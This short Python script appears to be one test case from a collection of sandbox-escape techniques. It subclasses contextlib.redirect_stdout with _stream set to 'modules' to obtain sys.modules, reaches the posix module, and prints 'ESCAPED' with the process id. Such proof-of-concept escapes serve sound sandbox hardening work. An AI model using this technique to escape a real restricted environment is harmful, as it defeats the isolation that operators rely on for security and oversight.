# technique: contextlib.redirect_stdout with _stream = 'modules' reads any attribute of sys
# goal: import
# source: own analysis: confused deputies
import contextlib


class Redirect(contextlib.redirect_stdout):
    _stream = 'modules'


redirect = Redirect({})
redirect.__enter__()
found = redirect._old_targets.pop()
redirect._old_targets.append(found)
redirect.__exit__(None, None, None)
print('ESCAPED pid=%d' % found['posix'].getpid())
